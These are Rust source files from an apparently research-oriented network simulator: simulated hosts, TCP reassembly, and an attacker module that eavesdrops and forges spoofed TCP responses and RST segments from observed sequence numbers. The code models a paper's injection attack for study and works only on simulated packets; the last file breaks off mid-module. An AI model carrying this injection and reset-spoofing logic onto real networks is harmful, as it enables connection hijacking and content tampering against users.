/// arrive on a connection to a listening port; every returned byte vector is
/// transmitted back to the peer as application data, and the service's
/// processing delay is applied before the reply leaves the host.
pub trait Service: Send {
    /// Handles newly arrived request bytes and returns response chunks.
    ///
    /// Both directions are [`Bytes`]: `data` is the freshly arrived stream as
    /// zero-copy chunks of the wire segments (no per-delivery reassembly
    /// buffer is built), and every returned chunk shares one buffer with the
    /// outgoing segments, trace and receiver instead of being copied per
    /// reply. A service that needs the request contiguous can concatenate the
    /// chunks itself — most services only sniff the first chunk's prefix.
    fn on_data(&mut self, conn: ConnId, data: &[Bytes]) -> Vec<Bytes>;

    /// [`Service::on_data`] appending the response chunks to a caller-owned
    /// buffer. The simulator calls this form so one response vector is reused
    /// across every service invocation; implementors with a hot reply path
    /// (e.g. [`crate::sim::FixedResponder`]) override it to skip the
    /// intermediate `Vec` entirely.
    fn on_data_into(&mut self, conn: ConnId, data: &[Bytes], out: &mut Vec<Bytes>) {
        out.extend(self.on_data(conn, data));
    }

    /// Server-side think time applied before responses are emitted.
    fn processing_delay(&self) -> crate::time::Duration {
        crate::time::Duration::from_micros(200)
    }
}

/// Outcome of delivering one packet to a host, reported to the simulator.
#[derive(Debug, Default)]
pub struct DeliveryResult {
    /// Segments the host wants transmitted in response (ACKs, SYN-ACKs, RSTs).
    pub responses: Vec<Segment>,
    /// Connections on which new application data became available.
    pub data_ready: Vec<ConnId>,
    /// What the TCP layer did with the payload (for measurement).
    pub outcome: Option<AcceptOutcome>,
}

impl DeliveryResult {
    /// Empties the result for reuse, keeping the allocated capacity. The
    /// simulator owns one `DeliveryResult` scratch and recycles it across
    /// every delivered event.
    pub fn clear(&mut self) {
        self.responses.clear();
        self.data_ready.clear();
        self.outcome = None;
    }
}

/// A simulated host.
///
/// Connections are stored in a dense slab indexed by [`ConnId`] (ids are
/// allocated sequentially from 1 and never freed), so the per-event state
/// machine advance is a direct vector index instead of a hash lookup; only
/// the wire-driven demultiplexing step hashes, through a table keyed with the
/// crate's fast internal hasher.
pub struct Host {
    id: HostId,
    name: String,
    ip: IpAddr,
    medium: MediumId,
    /// Connection slab: `ConnId(n)` lives at index `n - 1`.
    connections: Vec<TcpConnection>,
    /// Demultiplexing table: (local port, remote endpoint) -> connection.
    demux: FxHashMap<(u16, SocketAddr), ConnId>,
    listeners: Vec<u16>,
    next_ephemeral_port: u16,
    next_iss: u32,
    service: Option<Box<dyn Service>>,
}

impl fmt::Debug for Host {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Host")
            .field("id", &self.id)
            .field("name", &self.name)
            .field("ip", &self.ip)
            .field("connections", &self.connections.len())
            .field("listeners", &self.listeners)
            .finish()
    }
}

impl Host {
    /// Creates a host attached to `medium`.
    pub fn new(id: HostId, name: impl Into<String>, ip: IpAddr, medium: MediumId) -> Self {
        Host {
            id,
            name: name.into(),
            ip,
            medium,
            connections: Vec::new(),
            demux: FxHashMap::default(),
            listeners: Vec::new(),
            next_ephemeral_port: 49152,
            // Deterministic but distinct per host so sequence numbers differ.
            next_iss: ip.to_u32().wrapping_mul(2654435761),
            service: None,
        }
    }

    /// Host identifier.
    pub fn id(&self) -> HostId {
        self.id
    }

    /// Host name (for traces).
    pub fn name(&self) -> &str {
        &self.name
    }

    /// Host IP address.
    pub fn ip(&self) -> IpAddr {
        self.ip
    }

    /// Medium the host is attached to.
    pub fn medium(&self) -> MediumId {
        self.medium
    }

    /// Attaches an application service (server behaviour) to the host.
    pub fn set_service(&mut self, service: Box<dyn Service>) {
        self.service = Some(service);
    }

    /// Returns a mutable reference to the attached service, if any.
    pub fn service_mut(&mut self) -> Option<&mut Box<dyn Service>> {
        self.service.as_mut()
    }

    /// Starts listening on a TCP port.
    pub fn listen(&mut self, port: u16) {
        if !self.listeners.contains(&port) {
            self.listeners.push(port);
        }
    }

    /// Returns `true` if the host listens on `port`.
    pub fn is_listening(&self, port: u16) -> bool {
        self.listeners.contains(&port)
    }

    /// The slab index a connection id maps to, if it names a live connection.
    #[inline]
    fn conn_index(&self, conn: ConnId) -> Option<usize> {
        (conn.0 as usize)
            .checked_sub(1)
            .filter(|&index| index < self.connections.len())
    }

    #[inline]
    fn conn(&self, conn: ConnId) -> Option<&TcpConnection> {
        self.conn_index(conn).map(|index| &self.connections[index])
    }

    #[inline]
    fn conn_mut(&mut self, conn: ConnId) -> Option<&mut TcpConnection> {
        self.conn_index(conn).map(move |index| &mut self.connections[index])
    }

    /// Appends a connection to the slab and returns its id (`len` after the
    /// push, so ids start at 1 and `ConnId(0)` stays invalid).
    fn push_conn(&mut self, conn: TcpConnection) -> ConnId {
        self.connections.push(conn);
        ConnId(self.connections.len() as u64)
    }

    fn alloc_iss(&mut self) -> SeqNum {
        // Simple deterministic ISS generator; good enough for a simulator
        // where the attacker *observes* sequence numbers rather than guessing.
        self.next_iss = self.next_iss.wrapping_mul(1103515245).wrapping_add(12345);
        SeqNum::new(self.next_iss)
    }

    fn alloc_ephemeral_port(&mut self) -> u16 {
        let port = self.next_ephemeral_port;
        self.next_ephemeral_port = if port == u16::MAX { 49152 } else { port + 1 };
        port
    }

    /// Opens a connection to `remote`, returning the connection id and the
    /// SYN segment to transmit.
    pub fn connect(&mut self, remote: SocketAddr) -> (ConnId, Segment) {
        let local = SocketAddr::new(self.ip, self.alloc_ephemeral_port());
        let iss = self.alloc_iss();
        let (conn, syn) = TcpConnection::connect(local, remote, iss);
        let id = self.push_conn(conn);
        self.demux.insert((local.port, remote), id);
        (id, syn)
    }

    /// Sends application data on an established connection.
    ///
    /// # Errors
    ///
    /// Returns [`NetError::UnknownConnection`] for an unknown id and
    /// [`NetError::InvalidState`] if the connection is not established.
    pub fn send(&mut self, conn: ConnId, data: &[u8]) -> Result<Vec<Segment>, NetError> {
        self.send_bytes(conn, Bytes::copy_from_slice(data))
    }

    /// [`Host::send`] without the copy: MSS segmentation slices the shared
    /// buffer instead of copying each chunk.
    ///
    /// # Errors
    ///
    /// Returns [`NetError::UnknownConnection`] for an unknown id and
    /// [`NetError::InvalidState`] if the connection is not established.
    pub fn send_bytes(&mut self, conn: ConnId, data: Bytes) -> Result<Vec<Segment>, NetError> {
        let connection = self
            .conn_mut(conn)
            .ok_or(NetError::UnknownConnection(conn.0))?;
        connection.send_bytes(data)
    }

    /// [`Host::send_bytes`] into a caller-owned segment buffer (see
    /// [`TcpConnection::send_bytes_into`]).
    ///
    /// # Errors
    ///
    /// Returns [`NetError::UnknownConnection`] for an unknown id and
    /// [`NetError::InvalidState`] if the connection is not established.
    pub fn send_bytes_into(
        &mut self,
        conn: ConnId,
        data: Bytes,
        out: &mut Vec<Segment>,
    ) -> Result<(), NetError> {
        let connection = self
            .conn_mut(conn)
            .ok_or(NetError::UnknownConnection(conn.0))?;
        connection.send_bytes_into(data, out)
    }

    /// Closes a connection, returning the FIN segment.
    ///
    /// # Errors
    ///
    /// Returns [`NetError::UnknownConnection`] for an unknown id and
    /// [`NetError::InvalidState`] if the connection cannot be closed.
    pub fn close(&mut self, conn: ConnId) -> Result<Segment, NetError> {
        let connection = self
            .conn_mut(conn)
            .ok_or(NetError::UnknownConnection(conn.0))?;
        connection.close()
    }

    /// Returns the connection state, if the connection exists.
    pub fn connection_state(&self, conn: ConnId) -> Option<TcpState> {
        self.conn(conn).map(|c| c.state())
    }

    /// Returns the remote endpoint of a connection.
    pub fn connection_remote(&self, conn: ConnId) -> Option<SocketAddr> {
        self.conn(conn).map(|c| c.remote())
    }

    /// Returns the local endpoint of a connection.
    pub fn connection_local(&self, conn: ConnId) -> Option<SocketAddr> {
        self.conn(conn).map(|c| c.local())
    }

    /// Returns all application bytes received on a connection so far.
    pub fn received(&self, conn: ConnId) -> &[u8] {
        self.conn(conn).map(|c| c.received()).unwrap_or(&[])
    }

    /// Returns application bytes that arrived since the previous call.
    pub fn read_new(&mut self, conn: ConnId) -> Vec<u8> {
        self.conn_mut(conn).map(|c| c.read_new()).unwrap_or_default()
    }

    /// [`Host::read_new`] without the copy: appends the bytes that arrived
    /// since the previous read to `out` as shared [`Bytes`] chunks (see
    /// [`TcpConnection::take_new_bytes`]). The simulator owns the scratch
    /// vector and recycles it across service invocations.
    pub fn read_new_bytes(&mut self, conn: ConnId, out: &mut Vec<Bytes>) {
        if let Some(connection) = self.conn_mut(conn) {
            connection.take_new_bytes(out);
        }
    }

    /// Returns `true` once the connection has completed its handshake.
    pub fn is_established(&self, conn: ConnId) -> bool {
        self.conn(conn).map(|c| c.is_established()).unwrap_or(false)
    }

    /// Lists ids of all connections on this host (in creation order).
    pub fn connection_ids(&self) -> Vec<ConnId> {
        (1..=self.connections.len() as u64).map(ConnId).collect()
    }

    /// Delivers a packet to this host, advancing the owning connection's state
    /// machine (creating a server-side connection for SYNs to listening ports).
    pub fn deliver(&mut self, packet: &Packet) -> DeliveryResult {
        let mut result = DeliveryResult::default();
        self.deliver_into(packet, &mut result);
        result
    }

    /// [`Host::deliver`] into a caller-owned result, so the simulator's event
    /// loop reuses one `DeliveryResult` (and its buffers) for every event
    /// instead of allocating two vectors per delivery. `result` is cleared
    /// first.
    pub fn deliver_into(&mut self, packet: &Packet, result: &mut DeliveryResult) {
        result.clear();
        let remote = SocketAddr::new(packet.src_ip, packet.segment.src_port);
        let local_port = packet.segment.dst_port;
        let key = (local_port, remote);

        let conn_id = match self.demux.get(&key) {
            Some(&id) => Some(id),
            None => {
                if packet.segment.flags.syn && !packet.segment.flags.ack && self.is_listening(local_port)
                {
                    let local = SocketAddr::new(self.ip, local_port);
                    let iss = self.alloc_iss();
                    let conn = TcpConnection::listen(local, iss);
                    let id = self.push_conn(conn);
                    self.demux.insert(key, id);
                    Some(id)
                } else {
                    None
                }
            }
        };

        let Some(conn_id) = conn_id else {
            // No matching connection and not a connectable SYN: answer with RST
            // as a real stack would (unless the stray packet is itself an RST).
            if !packet.segment.flags.rst {
                result.responses.push(Segment::control(
                    local_port,
                    remote.port,
                    packet.segment.ack,
                    packet.segment.seq_end(),
                    crate::packet::TcpFlags::RST,
                ));
            }
            return;
        };

        let track_chunks = self.service.is_some();
        let connection = self
            .conn_mut(conn_id)
            .expect("demuxed connection must exist");
        // Only hosts with a service consume data incrementally; recording
        // chunks for anyone else would pin the arriving payload buffers.
        connection.set_chunk_delivery(track_chunks);
        let before = connection.received().len();
        let outcome = connection.on_segment_into(remote, &packet.segment, &mut result.responses);
        let after = connection.received().len();

        result.outcome = Some(outcome);
        if after > before {
            result.data_ready.push(conn_id);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::packet::TcpFlags;

    fn make_hosts() -> (Host, Host) {
        let client = Host::new(HostId(1), "client", IpAddr::new(10, 0, 0, 2), MediumId(0));
        let mut server = Host::new(HostId(2), "server", IpAddr::new(203, 0, 113, 10), MediumId(0));
        server.listen(80);
        (client, server)
    }

    /// Delivers a segment from `from` to `to`, returning the responses.
    fn ship(from: &Host, to: &mut Host, seg: Segment) -> DeliveryResult {
        let pkt = Packet::new(from.ip(), to.ip(), seg);
        to.deliver(&pkt)
    }

    fn establish(client: &mut Host, server: &mut Host) -> ConnId {
        let (conn, syn) = client.connect(SocketAddr::new(server.ip(), 80));
        let r1 = ship(client, server, syn);
        let r2 = ship(server, client, r1.responses[0].clone());
        ship(client, server, r2.responses[0].clone());
        assert!(client.is_established(conn));
        conn
    }

    #[test]
    fn connect_and_exchange_data() {
        let (mut client, mut server) = make_hosts();
        let conn = establish(&mut client, &mut server);
        let segs = client.send(conn, b"GET /index.html HTTP/1.1\r\n\r\n").unwrap();
        for seg in segs {
            let result = ship(&client, &mut server, seg);
            assert!(result.outcome.is_some());
        }
        let server_conn = server.connection_ids()[0];
        assert_eq!(server.received(server_conn), b"GET /index.html HTTP/1.1\r\n\r\n");
    }

    #[test]
    fn syn_to_closed_port_gets_rst() {
        let (client, mut server) = make_hosts();
        let syn = Segment::control(50000, 8080, SeqNum::new(7), SeqNum::new(0), TcpFlags::SYN);
        let result = ship(&client, &mut server, syn);
        assert_eq!(result.responses.len(), 1);
        assert!(result.responses[0].flags.rst);
    }

    #[test]
    fn stray_data_to_unknown_connection_gets_rst() {
        let (client, mut server) = make_hosts();
        let data = Segment::data(50001, 80, SeqNum::new(100), SeqNum::new(1), &b"hi"[..]);
        let result = ship(&client, &mut server, data);
        assert_eq!(result.responses.len(), 1);
        assert!(result.responses[0].flags.rst);
    }

    #[test]
    fn data_ready_reports_connection_with_new_bytes() {
        let (mut client, mut server) = make_hosts();
        let conn = establish(&mut client, &mut server);
        let segs = client.send(conn, b"ping").unwrap();
        let result = ship(&client, &mut server, segs[0].clone());
        assert_eq!(result.data_ready.len(), 1);
        let sconn = result.data_ready[0];
        assert_eq!(server.read_new(sconn), b"ping");
        assert!(server.read_new(sconn).is_empty());
    }

    #[test]
    fn ephemeral_ports_are_unique_per_connection() {
        let (mut client, server) = make_hosts();
        let (c1, s1) = client.connect(SocketAddr::new(server.ip(), 80));
        let (c2, s2) = client.connect(SocketAddr::new(server.ip(), 80));
        assert_ne!(c1, c2);
        assert_ne!(s1.src_port, s2.src_port);
    }

    #[test]
    fn unknown_connection_operations_error() {
        let (mut client, _server) = make_hosts();
        assert!(matches!(
            client.send(ConnId(99), b"x"),
            Err(NetError::UnknownConnection(99))
        ));
        assert!(matches!(
            client.close(ConnId(99)),
            Err(NetError::UnknownConnection(99))
        ));
    }
}
