//! The *master* attacker: eavesdropping tap and TCP segment injector.
//!
//! The paper's attacker model (§III) is an eavesdropper on a shared wireless
//! network: it **sees** every segment the victim sends (source port, sequence
//! and acknowledgement numbers) but cannot block or modify traffic. From an
//! observed HTTP request it crafts a spoofed response segment impersonating
//! the server and races it against the genuine response; because the local
//! attacker answers within microseconds while the real server is tens of
//! milliseconds away, the spoofed segment arrives first and
//! first-segment-wins reassembly does the rest (§V, Figure 2).

use crate::addr::{FourTuple, IpAddr};
use crate::packet::{Packet, Segment, DEFAULT_MSS};
use crate::seq::SeqNum;
use crate::time::{Duration, Instant};
use bytes::Bytes;
use parking_lot::Mutex;
use std::sync::Arc;

/// A packet injection requested by a tap, to be delivered after `delay`.
#[derive(Debug, Clone)]
pub struct Injection {
    /// Additional delay (the attacker's reaction time) before the spoofed
    /// packet reaches its destination, on top of the medium latency.
    pub delay: Duration,
    /// The crafted packet.
    pub packet: Packet,
}

/// Observer attached to a shared medium.
///
/// Taps receive a copy of every packet that traverses an observable medium
/// and may request injections in response. They can never suppress or alter
/// the observed packet — matching the paper's "can eavesdrop but cannot block
/// or modify" attacker.
pub trait Tap: Send {
    /// Called for every observed packet; any returned injections are
    /// scheduled for delivery.
    fn observe(&mut self, packet: &Packet, now: Instant) -> Vec<Injection>;

    /// Human-readable name used in traces.
    fn name(&self) -> &str {
        "tap"
    }
}

/// A single observation recorded by an [`Eavesdropper`].
#[derive(Debug, Clone)]
pub struct Observation {
    /// When the packet was observed.
    pub at: Instant,
    /// The observed packet.
    pub packet: Packet,
}

/// Shared handle to the packets an [`Eavesdropper`] has recorded.
pub type ObservationLog = Arc<Mutex<Vec<Observation>>>;

/// A passive eavesdropper that records every observed packet.
///
/// Useful on its own for measurement and as the observation half of more
/// elaborate attackers built in higher-level crates.
#[derive(Debug)]
pub struct Eavesdropper {
    log: ObservationLog,
    name: String,
}

impl Eavesdropper {
    /// Creates an eavesdropper and returns it together with a shared handle to
    /// its observation log.
    pub fn new(name: impl Into<String>) -> (Self, ObservationLog) {
        let log: ObservationLog = Arc::new(Mutex::new(Vec::new()));
        (
            Eavesdropper {
                log: Arc::clone(&log),
                name: name.into(),
            },
            log,
        )
    }
}

impl Tap for Eavesdropper {
    fn observe(&mut self, packet: &Packet, now: Instant) -> Vec<Injection> {
        self.log.lock().push(Observation {
            at: now,
            packet: packet.clone(),
        });
        Vec::new()
    }

    fn name(&self) -> &str {
        &self.name
    }
}

/// Crafts spoofed TCP segments from observed client traffic.
///
/// The injector is a pure helper: given an observed client→server packet it
/// produces the server→client segments an off-path attacker would forge. The
/// sequence number of the spoofed response is the ACK the client just sent
/// (the next byte it expects from the server) and the acknowledgement number
/// covers the client's request — both read directly off the wire, no guessing
/// required.
#[derive(Debug, Clone)]
pub struct Injector {
    /// Reaction time between observing the request and emitting the spoofed
    /// response. Defaults to 300 µs: a co-located attacker answering from RAM.
    pub reaction_time: Duration,
    /// Maximum payload bytes per spoofed segment.
    pub mss: usize,
}

impl Default for Injector {
    fn default() -> Self {
        Injector {
            reaction_time: Duration::from_micros(300),
            mss: DEFAULT_MSS,
        }
    }
}

impl Injector {
    /// Creates an injector with the given reaction time.
    pub fn new(reaction_time: Duration) -> Self {
        Injector {
            reaction_time,
            ..Default::default()
        }
    }

    /// Builds the spoofed server response for an observed client request
    /// packet, splitting `payload` into MSS-sized spoofed segments.
    ///
    /// Returns an empty vector if the observed packet carries no payload
    /// (there is nothing to respond to yet).
    pub fn forge_response(&self, observed: &Packet, payload: &[u8]) -> Vec<Injection> {
        self.forge_response_bytes(observed, Bytes::copy_from_slice(payload))
    }

    /// [`Injector::forge_response`] without the copy: spoofed segments slice
    /// the shared payload buffer, so a master replaying a prepared object pays
    /// no per-injection allocation.
    pub fn forge_response_bytes(&self, observed: &Packet, payload: Bytes) -> Vec<Injection> {
        if observed.segment.payload.is_empty() {
            return Vec::new();
        }
        let tuple: FourTuple = observed.four_tuple();
        // The spoofed response impersonates the server: source = the server
        // endpoint the client was talking to.
        let src_ip: IpAddr = tuple.dst.ip;
        let dst_ip: IpAddr = tuple.src.ip;
        let src_port = tuple.dst.port;
        let dst_port = tuple.src.port;

        // Sequence number: the client's ACK field is exactly the next byte it
        // expects from the server.
        let mut seq: SeqNum = observed.segment.ack;
        // Acknowledge everything the client has sent including this request.
        let ack: SeqNum = observed.segment.seq_end();

        let mut injections = Vec::new();
        let mut offset = 0usize;
        while offset < payload.len() {
            let end = (offset + self.mss).min(payload.len());
            let chunk = payload.slice(offset..end);
            let len = chunk.len() as u32;
            let mut segment = Segment::data(src_port, dst_port, seq, ack, chunk);
            segment.window = observed.segment.window;
            seq = seq + len;
            injections.push(Injection {
                delay: self.reaction_time,
                packet: Packet::new(src_ip, dst_ip, segment).spoofed(),
            });
            offset = end;
        }
        injections
    }

    /// Builds a spoofed RST that would tear down the observed connection.
    /// Used by the countermeasure/ablation experiments to model a hostile
    /// network operator, not by the parasite attack itself.
    pub fn forge_reset(&self, observed: &Packet) -> Injection {
        let tuple = observed.four_tuple();
        let segment = Segment::control(
            tuple.dst.port,
            tuple.src.port,
            observed.segment.ack,
            observed.segment.seq_end(),
            crate::packet::TcpFlags::RST,
        );
        Injection {
            delay: self.reaction_time,
            packet: Packet::new(tuple.dst.ip, tuple.src.ip, segment).spoofed(),
        }
    }
}

/// A [`Tap`] that injects a canned spoofed response whenever an observed
/// packet's payload satisfies a predicate.
///
/// This is the minimal "master" used by netsim's own tests; the full master in
/// the `parasite` crate implements [`Tap`] itself with far richer behaviour
/// (object matching, parasite construction, C&C).
pub struct ResponseInjector {
    injector: Injector,
    matcher: PayloadMatcher,
    response_builder: ResponseBuilder,
    injected_count: usize,
    name: String,
}

/// Predicate over an observed payload deciding whether to attack.
pub type PayloadMatcher = Box<dyn Fn(&[u8]) -> bool + Send>;

/// Builds the spoofed response bytes from the observed request payload.
pub type ResponseBuilder = Box<dyn FnMut(&[u8]) -> Vec<u8> + Send>;

impl std::fmt::Debug for ResponseInjector {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("ResponseInjector")
            .field("name", &self.name)
            .field("injected_count", &self.injected_count)
            .finish()
    }
}

impl ResponseInjector {
    /// Creates a response injector.
    ///
    /// `matcher` decides (from the observed payload) whether to attack;
    /// `response_builder` produces the spoofed response bytes from the
    /// observed request payload.
    pub fn new(
        name: impl Into<String>,
        injector: Injector,
        matcher: impl Fn(&[u8]) -> bool + Send + 'static,
        response_builder: impl FnMut(&[u8]) -> Vec<u8> + Send + 'static,
    ) -> Self {
        ResponseInjector {
            injector,
            matcher: Box::new(matcher),
            response_builder: Box::new(response_builder),
            injected_count: 0,
            name: name.into(),
        }
    }

    /// Number of injections performed so far.
    pub fn injected_count(&self) -> usize {
        self.injected_count
    }
}

impl Tap for ResponseInjector {
    fn observe(&mut self, packet: &Packet, _now: Instant) -> Vec<Injection> {
        if packet.segment.payload.is_empty() || !(self.matcher)(&packet.segment.payload) {
            return Vec::new();
        }
        let response = (self.response_builder)(&packet.segment.payload);
        let injections = self.injector.forge_response(packet, &response);
        if !injections.is_empty() {
            self.injected_count += 1;
        }
        injections
    }

    fn name(&self) -> &str {
        &self.name
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::addr::SocketAddr;

    fn observed_request() -> Packet {
        let seg = Segment::data(
            51000,
            80,
            SeqNum::new(1001),
            SeqNum::new(5001),
            &b"GET /my.js HTTP/1.1\r\nHost: somesite.com\r\n\r\n"[..],
        );
        Packet::new(IpAddr::new(10, 0, 0, 2), IpAddr::new(203, 0, 113, 10), seg)
    }

    #[test]
    fn forged_response_impersonates_server_and_uses_observed_numbers() {
        let injector = Injector::default();
        let observed = observed_request();
        let injections = injector.forge_response(&observed, b"HTTP/1.1 200 OK\r\n\r\nevil");
        assert_eq!(injections.len(), 1);
        let pkt = &injections[0].packet;
        assert!(pkt.spoofed);
        assert_eq!(pkt.src_ip, IpAddr::new(203, 0, 113, 10));
        assert_eq!(pkt.dst_ip, IpAddr::new(10, 0, 0, 2));
        assert_eq!(pkt.segment.src_port, 80);
        assert_eq!(pkt.segment.dst_port, 51000);
        // SEQ taken from the client's ACK, ACK covers the request bytes.
        assert_eq!(pkt.segment.seq, SeqNum::new(5001));
        assert_eq!(
            pkt.segment.ack,
            SeqNum::new(1001 + observed.segment.payload.len() as u32)
        );
    }

    #[test]
    fn forged_response_is_segmented_at_mss() {
        let injector = Injector::default();
        let observed = observed_request();
        let big = vec![b'x'; DEFAULT_MSS * 2 + 17];
        let injections = injector.forge_response(&observed, &big);
        assert_eq!(injections.len(), 3);
        // Sequence numbers are contiguous across spoofed segments.
        assert_eq!(
            injections[1].packet.segment.seq,
            injections[0].packet.segment.seq_end()
        );
    }

    #[test]
    fn no_response_is_forged_for_empty_observations() {
        let injector = Injector::default();
        let seg = Segment::control(51000, 80, SeqNum::new(1), SeqNum::new(1), crate::packet::TcpFlags::ACK);
        let pkt = Packet::new(IpAddr::new(10, 0, 0, 2), IpAddr::new(203, 0, 113, 10), seg);
        assert!(injector.forge_response(&pkt, b"data").is_empty());
    }

    #[test]
    fn eavesdropper_records_observations() {
        let (mut tap, log) = Eavesdropper::new("sniffer");
        let pkt = observed_request();
        let injections = tap.observe(&pkt, Instant::from_micros(55));
        assert!(injections.is_empty());
        let observations = log.lock();
        assert_eq!(observations.len(), 1);
        assert_eq!(observations[0].at, Instant::from_micros(55));
        assert_eq!(observations[0].packet.segment.dst_port, 80);
    }

    #[test]
    fn response_injector_only_fires_on_matching_payloads() {
        let mut tap = ResponseInjector::new(
            "master",
            Injector::default(),
            |payload| payload.starts_with(b"GET /my.js"),
            |_req| b"HTTP/1.1 200 OK\r\n\r\nparasite".to_vec(),
        );
        let miss_seg = Segment::data(51000, 80, SeqNum::new(1), SeqNum::new(1), &b"GET /other.js"[..]);
        let miss = Packet::new(IpAddr::new(10, 0, 0, 2), IpAddr::new(203, 0, 113, 10), miss_seg);
        assert!(tap.observe(&miss, Instant::ZERO).is_empty());
        assert_eq!(tap.injected_count(), 0);

        let hit = observed_request();
        let injections = tap.observe(&hit, Instant::ZERO);
        assert_eq!(injections.len(), 1);
        assert_eq!(tap.injected_count(), 1);
        assert!(injections[0].packet.spoofed);
    }

    #[test]
    fn forge_reset_targets_the_client() {
        let injector = Injector::default();
        let observed = observed_request();
        let rst = injector.forge_reset(&observed);
        assert!(rst.packet.segment.flags.rst);
        assert_eq!(
            rst.packet.four_tuple().dst,
            SocketAddr::new(IpAddr::new(10, 0, 0, 2), 51000)
        );
    }
}
