//! TCP connection state machine and first-segment-wins reassembly.
//!
//! This module implements the subset of TCP behaviour that the Master and
//! Parasite attack relies on:
//!
//! * the three-way handshake, so sequence numbers are established the same
//!   way they are on a real network,
//! * in-window acceptance of data segments,
//! * **first-segment-wins reassembly**: once bytes for a given range of the
//!   sequence space have been accepted, later segments for the same range are
//!   ignored. This is the standard behaviour that lets an eavesdropping
//!   attacker who answers *faster than the genuine server* have its spoofed
//!   payload accepted while the genuine response is discarded as a duplicate
//!   (paper §V, Figure 2).
//! * RST and FIN handling, so middlebox and teardown experiments behave
//!   plausibly.

use crate::addr::SocketAddr;
use crate::error::NetError;
use crate::packet::{Segment, TcpFlags, DEFAULT_MSS};
use crate::seq::SeqNum;
use bytes::Bytes;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

/// States of the TCP state machine (condensed to those the simulation needs).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum TcpState {
    /// No connection.
    Closed,
    /// Passive open: waiting for a SYN.
    Listen,
    /// Active open: SYN sent, waiting for SYN-ACK.
    SynSent,
    /// SYN received, SYN-ACK sent, waiting for ACK.
    SynReceived,
    /// Connection established; data may flow.
    Established,
    /// We sent FIN and are draining.
    FinWait,
    /// Peer sent FIN; we may still send.
    CloseWait,
    /// Connection was reset.
    Reset,
}

/// Outcome of processing one incoming segment, used by experiment harnesses
/// to attribute which bytes ended up in the application stream.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AcceptOutcome {
    /// The segment carried no new data (pure ACK, duplicate, out of window).
    NoData,
    /// New bytes were accepted into the reassembly buffer.
    Accepted {
        /// Number of new payload bytes accepted.
        fresh_bytes: usize,
    },
    /// The payload overlapped already-received sequence space entirely and
    /// was dropped — this is what happens to the *losing* side of an
    /// injection race.
    DuplicateDropped,
    /// The segment was rejected because it fell outside the receive window.
    OutOfWindow,
    /// The segment reset the connection.
    ResetReceived,
}

/// First-segment-wins reassembly buffer.
///
/// Bytes are addressed by their offset from the initial receive sequence
/// number. For every offset the *first* byte value accepted is kept; later
/// arrivals for the same offset are discarded.
#[derive(Debug, Clone, Default)]
pub struct Reassembler {
    /// Contiguous, application-visible stream.
    assembled: Vec<u8>,
    /// Out-of-order byte ranges, keyed by stream offset.
    pending: BTreeMap<u64, Vec<u8>>,
    /// Zero-copy chunks of freshly contiguous bytes, recorded by
    /// [`Reassembler::offer_bytes`] when chunk tracking is on and consumed by
    /// [`TcpConnection::take_new_bytes`]. Covers `fresh_bytes` bytes.
    fresh: Vec<Bytes>,
    /// Total bytes across `fresh`.
    fresh_bytes: u64,
}

impl Reassembler {
    /// Creates an empty reassembler.
    pub fn new() -> Self {
        Self::default()
    }

    /// Number of contiguous bytes delivered so far.
    pub fn assembled_len(&self) -> u64 {
        self.assembled.len() as u64
    }

    /// [`Reassembler::offer`] for a shared buffer, optionally recording the
    /// newly contiguous bytes as zero-copy chunks for
    /// [`TcpConnection::take_new_bytes`]. In the common in-order case the
    /// recorded chunk is a slice of `data` itself — no byte is copied twice.
    pub fn offer_bytes(&mut self, offset: u64, data: &Bytes, track_chunks: bool) -> usize {
        let before = self.assembled_len();
        let had_pending = !self.pending.is_empty();
        let fresh = self.offer(offset, data);
        if track_chunks {
            let after = self.assembled_len();
            if after > before {
                let chunk = if had_pending {
                    // Rare path: previously buffered out-of-order ranges
                    // contributed (first segment wins), so the contiguous
                    // growth is not a pure slice of `data`.
                    Bytes::copy_from_slice(&self.assembled[before as usize..after as usize])
                } else {
                    // All growth came from this segment, contiguously from
                    // `before`: share the arriving buffer.
                    data.slice((before - offset) as usize..(after - offset) as usize)
                };
                self.fresh_bytes += chunk.len() as u64;
                self.fresh.push(chunk);
            }
        }
        fresh
    }

    /// Total bytes covered by recorded-but-unconsumed fresh chunks.
    pub(crate) fn fresh_len(&self) -> u64 {
        self.fresh_bytes
    }

    /// Moves the recorded fresh chunks into `out`.
    pub(crate) fn take_fresh(&mut self, out: &mut Vec<Bytes>) {
        out.append(&mut self.fresh);
        self.fresh_bytes = 0;
    }

    /// Discards the recorded fresh chunks (releasing their shared buffers).
    pub(crate) fn clear_fresh(&mut self) {
        self.fresh.clear();
        self.fresh_bytes = 0;
    }

    /// Offers bytes starting at `offset` (relative to the initial sequence
    /// number). Returns the number of *fresh* bytes that had not been covered
    /// by earlier segments.
    pub fn offer(&mut self, offset: u64, data: &[u8]) -> usize {
        if data.is_empty() {
            return 0;
        }
        let end = offset + data.len() as u64;
        let assembled_len = self.assembled_len();

        // In-order fast path (the overwhelmingly common case): no buffered
        // out-of-order ranges and the segment touches the contiguous prefix,
        // so the new tail extends `assembled` directly — no range buffer is
        // allocated and every byte is copied exactly once.
        if self.pending.is_empty() && offset <= assembled_len {
            if end <= assembled_len {
                return 0;
            }
            let tail = &data[(assembled_len - offset) as usize..];
            self.assembled.extend_from_slice(tail);
            return tail.len();
        }

        let mut fresh = 0usize;
        // Portion that extends the contiguous prefix or fills later gaps.
        let mut cursor = offset.max(assembled_len);
        while cursor < end {
            // Skip ranges already buffered out-of-order (first segment wins).
            if let Some((&pstart, pdata)) = self.pending.range(..=cursor).next_back() {
                let pend = pstart + pdata.len() as u64;
                if cursor < pend {
                    cursor = pend;
                    continue;
                }
            }
            // Find where the next already-buffered range begins, to bound this gap.
            let gap_end = self
                .pending
                .range(cursor..)
                .next()
                .map(|(&s, _)| s.min(end))
                .unwrap_or(end);
            if gap_end <= cursor {
                break;
            }
            let slice = &data[(cursor - offset) as usize..(gap_end - offset) as usize];
            fresh += slice.len();
            self.pending.insert(cursor, slice.to_vec());
            cursor = gap_end;
        }

        self.drain_contiguous();
        fresh
    }

    /// Moves pending ranges that are now contiguous with the assembled prefix
    /// into the application stream.
